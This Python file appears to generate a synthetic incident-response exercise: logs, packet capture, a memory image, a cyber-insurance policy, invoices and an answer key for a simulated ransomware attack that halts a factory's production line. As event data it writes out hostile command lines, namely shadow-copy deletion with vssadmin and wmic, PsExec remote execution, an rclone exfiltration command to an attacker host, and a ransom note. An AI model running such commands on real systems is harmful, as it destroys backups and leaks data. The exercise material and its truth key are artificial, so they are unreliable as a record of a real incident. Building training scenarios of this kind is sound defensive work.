"""Industrial internet: ransomware stops a production line (the `make demo` scenario).

Huadong Precision Components (华东精密零部件有限公司), Suzhou. An RDP jump host is
exposed to the Internet; an attacker scans it, brute-forces RDP (4625 then 4624
type 10), beacons to C2, moves laterally with PsExec (4624 type 3, 7045), steals
engineering drawings and HR records from the file server, deletes shadow copies,
encrypts the engineering workstation, HMIs, file shares and the MES server
(*.locked, ransom note asking for bitcoin). The MES stops, so the line stops,
until restoration from offline backups 36.5 hours later."""
from __future__ import annotations

from scenarios.background import http_json_response, polling, syslog_activity, web_browsing, web_hits, windows_service_logons
from scenarios.kit import Builder, bech32_address
from scenarios.writers import logs, memory, pcap, policy as pol, winevents
from scenarios.writers.clock import MINUTE, US, at, iso
from scenarios.writers.financials import Financials, invoice
from scenarios.writers.pe import build_pe32
from scenarios.writers.revenue import RevenueModel

TITLE = "Industrial internet: ransomware stops a production line (demo)"

DOMAIN = "corp.hdpm.local"
JUMP, DC, FS, EWS, HMI1, HMI2, MES, BACKUP, GW = ("10.20.0.5", "10.20.1.10", "10.20.1.20", "10.20.5.31",
                                                    "10.30.1.11", "10.30.1.12", "10.30.2.10", "10.20.1.30",
                                                    "10.30.2.5")
LINE_TERMINALS = [HMI1, HMI2, "10.30.1.21", "10.30.1.22"]
ATTACKER, C2, EXFIL = "203.0.113.45", "198.51.100.23", "198.51.100.77"
C2_DOMAIN = "update-check.ddns-cloud.top"
HOSTS = {JUMP: "JUMP01", FS: "FS01", EWS: "EWS01", HMI1: "HMI01", HMI2: "HMI02", MES: "MES01"}

T_SCAN = at("2026-03-02T01:05:00Z")
T_BRUTE = at("2026-03-02T01:12:00Z")
T_LOGON = at("2026-03-02T01:19:30Z")
T_C2 = at("2026-03-02T01:40:00Z")
T_LATERAL = at("2026-03-02T02:10:00Z")
T_EXFIL = at("2026-03-02T03:30:00Z")
T_SHADOWS = at("2026-03-02T18:50:00Z")
T_ENCRYPT = at("2026-03-02T19:00:00Z")
T_OUTAGE = at("2026-03-02T19:06:00Z")
T_DISCOVERY = at("2026-03-02T23:30:00Z")
T_CONTAIN = at("2026-03-03T02:00:00Z")
T_RESTORED = at("2026-03-04T07:36:00Z")
CAPTURE = (at("2026-03-02T00:00:00Z"), at("2026-03-04T09:00:00Z"))
EXFIL_BYTES = 12_000_000


def fqdn(h: str) -> str:
    return f"{h}.{DOMAIN}"


def build(b: Builder) -> dict:
    rng = b.rng
    wallet = bech32_address(bytes(rng.integers(0, 256, 20, dtype="uint8")))
    note = (f"!!! YOUR NETWORK HAS BEEN ENCRYPTED !!!\r\nAll files on your servers, HMI and engineering stations "
            f"are encrypted with AES-256 + RSA-4096 (extension .locked).\r\nWe also downloaded your engineering "
            f"drawings and HR records.\r\nTo get the decryptor pay 2.5 BTC to {wallet}\r\nContact: "
            f"http://{C2_DOMAIN}/support  ID: HDPM-7731\r\nDo not rename files. Do not contact police.\r\n")

    # ---- Windows events -------------------------------------------------------------------------
    auth: dict[str, list[winevents.WinEvent]] = {h: [] for h in HOSTS.values()}

    def ev(t, host, prov, eid, data):
        auth[host].append(winevents.WinEvent(t, b.seq(), fqdn(host), prov, eid, data))

    users = ["administrator", "admin", "scada", "ot_admin"]
    for i in range(60):  # RDP brute force: NLA failures are logon type 3
        t = T_BRUTE + i * 6 * US + int(rng.integers(0, 900_000))
        ev(t, "JUMP01", winevents.SECURITY, 4625, {
            "TargetUserName": users[i % 3] if i < 57 else "ot_admin", "TargetDomainName": "CORP", "LogonType": 3,
            "Status": "0xc000006d", "SubStatus": "0xc000006a", "IpAddress": ATTACKER, "IpPort": 50000 + i,
            "WorkstationName": "kali", "LogonProcessName": "NtLmSsp", "AuthenticationPackageName": "NTLM"})
    ev(T_LOGON, "JUMP01", winevents.SECURITY, 4624, {
        "TargetUserName": "ot_admin", "TargetDomainName": "CORP", "LogonType": 10, "TargetLogonId": "0x3e1a2f",
        "IpAddress": ATTACKER, "IpPort": 50111, "WorkstationName": "kali", "LogonProcessName": "User32",
        "AuthenticationPackageName": "Negotiate"})
    ev(T_LOGON + 1 * US, "JUMP01", winevents.SECURITY, 4672, {
        "SubjectUserName": "ot_admin", "SubjectDomainName": "CORP", "SubjectLogonId": "0x3e1a2f",
        "PrivilegeList": "SeDebugPrivilege SeBackupPrivilege SeRestorePrivilege SeTakeOwnershipPrivilege"})

    def proc(t, host, image, cmd, parent="C:\\Windows\\explorer.exe", user="CORP\\ot_admin", pid=None):
        pid = pid or int(rng.integers(1000, 9000))
        ev(t, host, winevents.SECURITY, 4688, {
            "SubjectUserName": user.split("\\")[-1], "SubjectDomainName": "CORP", "NewProcessId": hex(pid),
            "NewProcessName": image, "CommandLine": cmd, "ParentProcessName": parent, "TokenElevationType": "%%1937"})
        ev(t + 50_000, host, winevents.SYSMON, 1, {
            "RuleName": "-", "UtcTime": iso(t).replace("T", " ").replace("Z", ""), "ProcessId": pid, "Image": image,
            "CommandLine": cmd, "CurrentDirectory": "C:\\Windows\\system32\\", "User": user,
            "Hashes": f"SHA256={b.filler.take(pid * 31, 32).hex().upper()}", "ParentImage": parent})
        return pid

    recon = ["whoami /all", "net group \"domain admins\" /domain", "nltest /dclist:corp", "ipconfig /all",
             "net view \\\\FS01", "net view \\\\MES01"]
    for i, c in enumerate(recon):
        proc(T_LOGON + (3 + i) * MINUTE, "JUMP01", "C:\\Windows\\System32\\cmd.exe", f"cmd.exe /c {c}")
    proc(T_C2 - 2 * MINUTE, "JUMP01", "C:\\Users\\Public\\svchost.exe",
         "C:\\Users\\Public\\svchost.exe -k netsvcs", parent="C:\\Windows\\System32\\cmd.exe")
    ev(T_C2, "JUMP01", winevents.SYSMON, 3, {
        "Image": "C:\\Users\\Public\\svchost.exe", "User": "CORP\\ot_admin", "Protocol": "tcp", "Initiated": "true",
        "SourceIp": JUMP, "SourcePort": 51000, "DestinationIp": C2, "DestinationHostname": C2_DOMAIN,
        "DestinationPort": 443})
    targets = [("EWS01", EWS), ("FS01", FS), ("HMI01", HMI1), ("HMI02", HMI2), ("MES01", MES)]
    lateral = []
    for k, (host, ip) in enumerate(targets):
        t = T_LATERAL + k * 7 * MINUTE
        proc(t - 20 * US, "JUMP01", "C:\\Tools\\PsExec64.exe",
             f"PsExec64.exe \\\\{host} -accepteula -s -d C:\\Windows\\Temp\\svcupd.exe", parent="C:\\Windows\\System32\\cmd.exe")
        ev(t, host, winevents.SECURITY, 4624, {
            "TargetUserName": "ot_admin", "TargetDomainName": "CORP", "LogonType": 3, "TargetLogonId": f"0x5{k}a10",
            "IpAddress": JUMP, "IpPort": 52000 + k, "WorkstationName": "JUMP01", "LogonProcessName": "NtLmSsp",
            "AuthenticationPackageName": "NTLM"})
        ev(t + 2 * US, host, winevents.SCM, 7045, {
            "ServiceName": "PSEXESVC", "ImagePath": "%SystemRoot%\\PSEXESVC.exe", "ServiceType": "user mode service",
            "StartType": "demand start", "AccountName": "LocalSystem"})
        lateral.append(["JUMP01", host, iso(t)])
    proc(T_EXFIL - 30 * US, "FS01", "C:\\Windows\\Temp\\rclone.exe",
         f"rclone.exe copy D:\\Shares\\Engineering s3:drop/hdpm --include *.dwg --include *.xlsx --transfers 4",
         parent="C:\\Windows\\PSEXESVC.exe", user="NT AUTHORITY\\SYSTEM")
    ev(T_EXFIL, "FS01", winevents.SYSMON, 3, {
        "Image": "C:\\Windows\\Temp\\rclone.exe", "User": "NT AUTHORITY\\SYSTEM", "Protocol": "tcp", "Initiated": "true",
        "SourceIp": FS, "SourcePort": 53311, "DestinationIp": EXFIL, "DestinationPort": 443})
    encrypted_paths = {
        "FS01": "D:\\Shares\\Engineering\\Line3", "EWS01": "C:\\Projects\\PLC", "HMI01": "C:\\HMI\\Screens",
        "HMI02": "C:\\HMI\\Screens", "MES01": "D:\\MES\\Data"}
    for k, host in enumerate(encrypted_paths):
        t = T_SHADOWS + k * 30 * US
        proc(t, host, "C:\\Windows\\System32\\vssadmin.exe", "vssadmin.exe delete shadows /all /quiet",
             parent="C:\\Windows\\Temp\\svcupd.exe", user="NT AUTHORITY\\SYSTEM")
        proc(t + 5 * US, host, "C:\\Windows\\System32\\wbem\\WMIC.exe", "wmic.exe shadowcopy delete /nointeractive",
             parent="C:\\Windows\\Temp\\svcupd.exe", user="NT AUTHORITY\\SYSTEM")
        pid = proc(T_ENCRYPT + k * 20 * US, host, "C:\\Windows\\Temp\\svcupd.exe", "svcupd.exe --encrypt --all-drives",
                   parent="C:\\Windows\\PSEXESVC.exe", user="NT AUTHORITY\\SYSTEM")
        base = encrypted_paths[host]
        for j in range(24):
            t2 = T_ENCRYPT + k * 20 * US + (j + 1) * 400_000
            ev(t2, host, winevents.SYSMON, 11, {
                "Image": "C:\\Windows\\Temp\\svcupd.exe", "ProcessId": pid,
                "TargetFilename": f"{base}\\file_{j:03d}.{['dwg', 'xlsx', 'mdb', 'acd'][j % 4]}.locked",
                "CreationUtcTime": iso(t2).replace("T", " ").replace("Z", "")})
        ev(T_ENCRYPT + k * 20 * US + 11 * US, host, winevents.SYSMON, 11, {
            "Image": "C:\\Windows\\Temp\\svcupd.exe", "ProcessId": pid, "TargetFilename": f"{base}\\README_RESTORE.txt",
            "CreationUtcTime": iso(T_ENCRYPT).replace("T", " ").replace("Z", "")})
    ev(T_OUTAGE - 20 * US, "MES01", winevents.SCM, 7036, {"param1": "HDPM MES Application Server", "param2": "stopped"})
    ev(T_OUTAGE - 15 * US, "MES01", winevents.SCM, 7036, {"param1": "MSSQLSERVER", "param2": "stopped"})
    ev(T_ENCRYPT + 4 * MINUTE, "FS01", winevents.EVENTLOG, 1102, {"SubjectUserName": "SYSTEM", "SubjectDomainName": "NT AUTHORITY"})
    proc(T_DISCOVERY, "HMI01", "C:\\Windows\\System32\\notepad.exe", "notepad.exe C:\\HMI\\Screens\\README_RESTORE.txt",
         user="CORP\\line3_operator")
    ev(T_RESTORED - 30 * US, "MES01", winevents.SCM, 7036, {"param1": "MSSQLSERVER", "param2": "running"})
    ev(T_RESTORED, "MES01", winevents.SCM, 7036, {"param1": "HDPM MES Application Server", "param2": "running"})

    win_start, win_end = CAPTURE
    for host, evs in auth.items():
        evs.sort()
        bg = windows_service_logons(rng, [fqdn(host)], "svc_backup", BACKUP, win_start, win_end, 1, b.scale, 10_000_000 * (1 + len(host)))
        b.win_events(f"winevents_{host}.jsonl", f"{host}: Security, System and Sysmon events exported as JSON lines",
                     iter(evs), bg)
    mes_system = [e for e in auth["MES01"] if e.provider == winevents.SCM]
    b.win_events("MES01_System_wevtutil.xml", "MES01 System log exported with wevtutil (XML)", iter(mes_system), xml=True)

    # ---- network capture at the core switch -------------------------------------------------------
    ff, filler = b.ff, b.filler
    attack: list[pcap.Session] = []
    for i, port in enumerate((21, 22, 23, 80, 135, 139, 443, 445, 1433, 3306, 3389, 5900, 5985, 8080, 8443)):
        t = T_SCAN + i * 200_000
        attack.append((t, pcap.syn_flood_packet(ff, t, ATTACKER, 61000 + i, JUMP, port, 777 + i)))
    x224 = bytes.fromhex("0300002c27e00000000000436f6f6b69653a206d737473686173683d6b616c690d0a0100080003000000")
    for i in range(60):
        t = T_BRUTE + i * 6 * US
        attack.append((t, pcap.tcp_session(ff, filler, t, ATTACKER, 50000 + i, JUMP, 3389,
                                           [pcap.Exchange("c", x224), pcap.Exchange("s", 19), pcap.Exchange("c", 1800),
                                            pcap.Exchange("s", 2400), pcap.Exchange("c", 900)],
                                           rtt_us=180_000, ttl_c=50, isn=i + 1)))
    rdp = [pcap.Exchange("c", x224)] + [pcap.Exchange(("s", "c")[j % 2], 3000 if j % 2 == 0 else 300, 10 * US)
                                         for j in range(600)]
    attack.append((T_LOGON - 2 * US, pcap.tcp_session(ff, filler, T_LOGON - 2 * US, ATTACKER, 50111, JUMP, 3389, rdp,
                                                       rtt_us=180_000, ttl_c=50, isn=999)))
    attack.append((T_C2 - 1 * US, pcap.dns_exchange(ff, T_C2 - 1 * US, JUMP, 55300, DC, C2_DOMAIN, [C2], 0x4C2)))
    t, k = T_C2, 0
    while t < T_CONTAIN:
        attack.append((t, pcap.tcp_session(ff, filler, t, JUMP, 51000 + k % 10000, C2, 443,
                                           pcap.https_exchanges(C2_DOMAIN, filler.take(k, 32), 420, 260, 90_000),
                                           rtt_us=160_000, ttl_s=49, isn=5000 + k)))
        k += 1
        t += 60 * US + int(rng.integers(-4 * US, 4 * US))
    for k, (host, ip) in enumerate(targets):
        t = T_LATERAL + k * 7 * MINUTE - 10 * US
        smb = [pcap.Exchange("c", bytes.fromhex("000000a4fe534d4240000000") + b"\x00" * 160),
               pcap.Exchange("s", 300), pcap.Exchange("c", 120_000), pcap.Exchange("s", 200)]
        attack.append((t, pcap.tcp_session(ff, filler, t, JUMP, 52000 + k, ip, 445, smb, rtt_us=400, isn=7000 + k)))
    attack.append((T_EXFIL - 2 * US, pcap.dns_exchange(ff, T_EXFIL - 2 * US, FS, 55400, DC, "s3.drop-box-store.top",
                                                        [EXFIL], 0x5E1)))
    attack.append((T_EXFIL, pcap.tcp_session(ff, filler, T_EXFIL, FS, 53311, EXFIL, 443,
                                             pcap.https_exchanges("s3.drop-box-store.top", filler.take(9, 32),
                                                                  EXFIL_BYTES, 4800),
                                             rtt_us=170_000, bandwidth_bps=8_000_000, ttl_s=49, isn=8001)))
    attack.sort(key=lambda s: s[0])
    poll = polling(ff, filler, LINE_TERMINALS, MES, 8080, CAPTURE[0], CAPTURE[1], 60, [(T_OUTAGE, T_RESTORED)],
                   b"GET /api/line3/status HTTP/1.1\r\nHost: mes01:8080\r\n\r\n",
                   http_json_response({"line": 3, "state": "running", "oee": 0.87, "orders": ["WO-2026-0311"] * 20}))
    office = [f"10.20.3.{i}" for i in range(20, 60)]
    browse = web_browsing(ff, filler, rng, office, DC, CAPTURE[0], CAPTURE[1], 4, b.scale)
    b.capture("core_switch.pcap", "SPAN of the core switch: Internet edge, server and OT VLANs", iter(attack), poll, browse)

    # ---- text logs --------------------------------------------------------------------------------
    fw = []
    for i, port in enumerate((21, 22, 23, 80, 135, 139, 443, 445, 1433, 3306, 5900, 5985, 8080, 8443)):
        fw.append(logs.firewall_line(T_SCAN + i * 200_000, "fw01", 864000.0 + i, "BLOCK", ATTACKER, JUMP, "TCP", 61000 + i, port))
    for i in range(60):
        fw.append(logs.firewall_line(T_BRUTE + i * 6 * US, "fw01", 864420.0 + i * 6, "ALLOW", ATTACKER, JUMP, "TCP", 50000 + i, 3389))
    t = T_CONTAIN + 30 * US
    while t < CAPTURE[1]:
        fw.append(logs.firewall_line(t, "fw01", 950000.0 + (t - T_CONTAIN) / US, "BLOCK", JUMP, C2, "TCP", 51999, 443, in_if="eth1"))
        t += 60 * US
    scanners = _internet_scans(rng, CAPTURE[0], CAPTURE[1], b.scale)
    b.text_log("fw01_firewall.log", "firewall_log", "Edge firewall (UFW) kernel log, host clock UTC",
               logs.sorted_lines(fw), scanners, timezone="UTC")
    gw_lines = []
    t = T_OUTAGE + 5 * US
    while t < T_RESTORED:
        gw_lines.append(logs.syslog_line(t, "gw-mes", "nginx", 911, f"*{int(t // US % 100000)} connect() failed (113: No route to host) while connecting to upstream, client: {HMI1}, server: mes, upstream: \"http://{MES}:8080/api/line3/status\""))
        t += 5 * MINUTE
    b.text_log("gw-mes_syslog.log", "syslog", "MES reverse proxy syslog (RFC 3164, host clock UTC)",
               logs.sorted_lines(gw_lines),
               syslog_activity(rng, "gw-mes", "opsadmin", "10.20.3.5", CAPTURE[0], CAPTURE[1], 1, b.scale), timezone="UTC")
    b.text_log("gw-mes_access.log", "web_access_log", "MES reverse proxy access log (combined, +0800)",
               web_hits(rng, "10.30.1", CAPTURE[0], CAPTURE[1], 30, b.scale, 8, [(T_OUTAGE, T_RESTORED)]),
               timezone="+08:00")

    # ---- memory of the file server ----------------------------------------------------------------
    locker = build_pe32({"KERNEL32.dll": ["CreateFileW", "ReadFile", "WriteFile", "FindFirstFileW", "FindNextFileW",
                                          "MoveFileExW", "GetLogicalDriveStringsW"],
                         "ADVAPI32.dll": ["CryptAcquireContextW", "CryptGenRandom", "CryptImportKey", "CryptEncrypt"]},
                        [".locked", "README_RESTORE.txt", "vssadmin.exe delete shadows /all /quiet", note],
                        at("2026-02-11T08:14:02Z") // US)
    beacon = build_pe32({"KERNEL32.dll": ["Sleep", "CreateProcessW", "VirtualAlloc"],
                         "WININET.dll": ["InternetOpenW", "InternetConnectW", "HttpOpenRequestW", "HttpSendRequestW"]},
                        [f"https://{C2_DOMAIN}/api/v2/beacon", C2, "Mozilla/5.0 (Windows NT 10.0; Win64; x64)"],
                        at("2026-01-28T22:40:51Z") // US)
    arts = [memory.Artifact("pe", "svcupd.exe (ransomware)", locker),
            memory.Artifact("pe", "svchost.exe (C2 implant)", beacon),
            *memory.strings("ransom note", note.replace("\r\n", "\n")),
            *memory.strings("C2 URL", f"https://{C2_DOMAIN}/api/v2/beacon"),
            *memory.strings("C2 IP", f"{C2}:443"),
            *memory.strings("exfiltration command", "rclone.exe copy D:\\Shares\\Engineering s3:drop/hdpm --include *.dwg"),
            *memory.strings("shadow copy deletion", "vssadmin.exe delete shadows /all /quiet")]
    b.memory_image("FS01.mem", "Raw memory image of FS01 taken after discovery", arts)

    # ---- policy, financials, truth ----------------------------------------------------------------
    policy = {
        "policy_number": "PICC-CYB-2025-SZ-004417", "insurer": "示例财产保险股份有限公司苏州分公司",
        "insured": "华东精密零部件有限公司 (Huadong Precision Components Co., Ltd.)", "product": "enterprise",
        "product_type": "industrial_internet", "line": "网络安全保险", "jurisdiction": "CN", "currency": "CNY",
        "timezone": "Asia/Shanghai",
        "period": {"start": "2025-07-01T00:00:00+08:00", "end": "2026-06-30T23:59:59+08:00"},
        "retroactive_date": "2024-07-01", "trigger_basis": "discovery", "aggregate_limit": 10_000_000.0,
        "application_order": list(pol.DEFAULT_ORDER),
        "sections": [
            pol.section("business_interruption", ["security_failure", "system_failure"], 5_000_000,
                        waiting_period={"hours": 8, "mode": "time_deductible"}, period_of_restoration_hours=720,
                        bi_basis="gross_profit", coinsurance=0.1,
                        conditions=["Loss of gross profit from interruption of the insured's production operations."]),
            pol.section("data_restoration", ["security_failure"], 1_000_000, retention={"amount": 50_000.0},
                        retention_group="first_party_costs"),
            pol.section("incident_response", ["security_failure", "extortion_threat"], 800_000,
                        retention={"amount": 50_000.0}, retention_group="first_party_costs"),
            pol.section("hardware_replacement", ["security_failure"], 500_000),
            pol.section("extortion", ["extortion_threat"], 2_000_000, sublimit=1_000_000.0),
            pol.section("privacy_liability", ["privacy_event"], 2_000_000,
                        cost_per_record={"amount": 150.0, "source": "insurer tariff, PIPL breach response", "year": 2025}),
            pol.section("notification_costs", ["privacy_event"], 300_000, count_limits={"notified_individuals": 5000}),
            pol.section("legal_costs", ["security_failure", "privacy_event"], 300_000),
            pol.section("public_relations", ["security_failure"], 200_000, sublimit=100_000.0),
        ],
        "exclusions": [pol.exclusion("war", attribution_basis="government_of_affected_state", major_detrimental_impact=True),
                       pol.exclusion("virtual_currency_payment"), pol.exclusion("betterment"),
                       pol.exclusion("prior_known_circumstances"), pol.exclusion("insider_dishonesty"),
                       pol.exclusion("uninsurable_fines")],
        "hardware_improvement_covered": False,
    }
    cur = "CNY"
    ledger = [
        invoice(1, "安恒应急响应中心 (IR retainer)", "incident_response", 286_000, cur, "2026-03-05", "Forensic investigation and containment, 3-13 March"),
        invoice(2, "安恒应急响应中心 (IR retainer)", "incident_response", 94_500, cur, "2026-03-20", "Threat hunting and hardening follow-up"),
        invoice(3, "苏州数据恢复服务有限公司", "data_restoration", 312_800, cur, "2026-03-06", "Restore MES, file shares and HMI images from offline backups"),
        invoice(4, "西门子工业软件 (Siemens DI SW)", "data_restoration", 78_000, cur, "2026-03-09", "Re-commissioning PLC projects on EWS01"),
        invoice(5, "研华科技 (Advantech)", "hardware_replacement", 164_000, cur, "2026-03-04", "Replacement HMI panels x4 (upgraded model)", betterment=38_000),
        invoice(6, "Coveware-style negotiator", "extortion", 45_000, cur, "2026-03-03", "Ransom negotiation and wallet screening"),
        invoice(7, "金杜律师事务所", "legal_costs", 128_000, cur, "2026-03-25", "PIPL breach assessment and regulator correspondence"),
        invoice(8, "蓝色光标 PR", "public_relations", 136_000, cur, "2026-03-12", "Customer and press communication"),
        invoice(9, "中国邮政 EMS / call centre", "notification_costs", 21_600, cur, "2026-03-18", "Employee notification letters and hotline"),
    ]
    fin = Financials(
        currency=cur,
        profile={"gross_profit_rate": 0.32, "net_profit_rate": 0.09, "continuing_expenses_per_hour": 12_000.0,
                 "savings_rate": 0.05, "increased_cost_of_working": {"amount": 180_000.0, "turnover_saved_by_it": 420_000.0},
                 "make_up_rate": 0.0},
        ledger=ledger,
        inventory=[
            {"system": "FS01 engineering shares", "host": "FS01", "record_type": "engineering_drawings", "count": 48_200, "personal": False},
            {"system": "FS01 HR share", "host": "FS01", "record_type": "employee_records", "count": 3_640, "personal": True},
            {"system": "MES01 production database", "host": "MES01", "record_type": "production_orders", "count": 1_204_000, "personal": False},
            {"system": "DC01 directory", "host": "DC01", "record_type": "user_accounts", "count": 3_910, "personal": True},
        ],
        claim={"business_interruption": 1_650_000.0, "data_restoration": 390_800.0, "incident_response": 380_500.0,
               "hardware_replacement": 164_000.0, "extortion": 1_225_000.0, "privacy_liability": 600_000.0,
               "notification_costs": 160_000.0, "legal_costs": 128_000.0, "public_relations": 136_000.0},
        ransom={"demand_amount": 2.5, "demand_currency": "BTC", "demand_value_in_policy_currency": 1_180_000.0,
                "payment_method": "bitcoin", "wallet": wallet, "paid": True, "paid_value_in_policy_currency": 1_180_000.0},
        liability={"notified_individuals": 3_640, "notification_cost_per_individual": 8.0,
                   "credit_monitoring_cost_per_individual": 30.0, "settlements": [], "fines": []},
    )
    coverage = {s["name"]: "triggered" for s in policy["sections"]}
    truth = {
        "title": TITLE,
        "t0": iso(T_SCAN),
        "initial_access": {"vector": "exposed RDP", "time": iso(T_LOGON), "host": "JUMP01", "account": "ot_admin",
                           "source_ip": ATTACKER, "failed_logons_before": 60},
        "discovery": iso(T_DISCOVERY), "containment": iso(T_CONTAIN),
        "compromised_hosts": ["JUMP01", "EWS01", "FS01", "HMI01", "HMI02", "MES01"],
        "encrypted_hosts": list(encrypted_paths),
        "lateral_movement": lateral,
        "outages": [{"service": "MES (production line 3)", "host": "MES01", "start": iso(T_OUTAGE), "end": iso(T_RESTORED)}],
        "exfiltrated_bytes": EXFIL_BYTES,
        "exfiltration": [{"source_host": "FS01", "src_ip": FS, "dst_ip": EXFIL, "dst_port": 443, "payload_bytes": EXFIL_BYTES,
                          "start": iso(T_EXFIL)}],
        "records_affected": {"engineering_drawings": 48_200, "employee_records": 3_640},
        "attacker_infrastructure": [ATTACKER, C2, EXFIL, C2_DOMAIN, "s3.drop-box-store.top"],
        "malicious": True, "operator_error": False,
        "extortion": {"demand": 2.5, "currency": "BTC", "payment_method": "bitcoin", "wallet": wallet},
        "gbt_category": "MPRANS",
    }
    return b.finish(policy=policy, fin=fin, revenue_model=RevenueModel(mean_per_hour=85_000.0),
                    bi_outage=(T_OUTAGE, T_RESTORED), coverage=coverage, personal_records=3_640, truth=truth)


def _internet_scans(rng, start: int, end: int, scale: int):
    """Background noise every Internet-facing firewall logs: random scanners hitting closed ports."""
    from scenarios.background import _hour_starts
    from scenarios.writers.clock import HOUR
    for hour in range(start // HOUR * HOUR, end, HOUR):
        for t in _hour_starts(rng, hour, 3 * scale):
            first = int(rng.integers(1, 223))
            first += first in (10, 127, 172, 192, 198, 203)
            src = f"{first}.{int(rng.integers(0, 255))}.{int(rng.integers(0, 255))}.{int(rng.integers(1, 254))}"
            port = (22, 23, 445, 1433, 3389, 6379, 8080)[int(rng.integers(0, 7))]
            yield logs.firewall_line(t, "fw01", 800000.0 + (t - start) / US, "BLOCK", src, JUMP, "TCP",
                                     int(rng.integers(1024, 65535)), port)
